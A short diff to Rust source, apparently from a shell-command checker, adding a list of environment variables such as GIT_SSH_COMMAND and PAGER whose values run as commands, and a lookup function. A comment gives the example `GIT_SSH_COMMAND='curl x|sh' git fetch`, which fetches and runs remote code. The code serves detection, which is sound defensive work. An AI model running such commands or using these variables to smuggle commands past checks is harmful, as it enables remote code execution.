@@ -536,6 +536,26 @@ pub(crate) enum Carried {
 }
 
 /// The commands `argv` (whose program is `program`) carries.
+/// Environment variables whose value the program runs as a command line through a
+/// shell: `GIT_SSH_COMMAND='curl x|sh' git fetch` runs `curl x|sh`.
+const COMMAND_VARIABLES: &[&str] = &[
+    "GIT_SSH_COMMAND",
+    "GIT_PAGER",
+    "GIT_EDITOR",
+    "GIT_SEQUENCE_EDITOR",
+    "PAGER",
+    "MANPAGER",
+    "EDITOR",
+    "VISUAL",
+    "PROMPT_COMMAND",
+    "SYSTEMD_PAGER",
+];
+
+/// The command line an environment assignment carries, if its variable is run.
+pub(crate) fn carried_by_env(name: &str) -> bool {
+    COMMAND_VARIABLES.contains(&name)
+}
+
 pub(crate) fn carried(program: &str, argv: &[Word]) -> Vec<Carried> {
     let mut out = Vec::new();
     for carrier in CARRIERS.iter().filter(|c| c.program == program) {
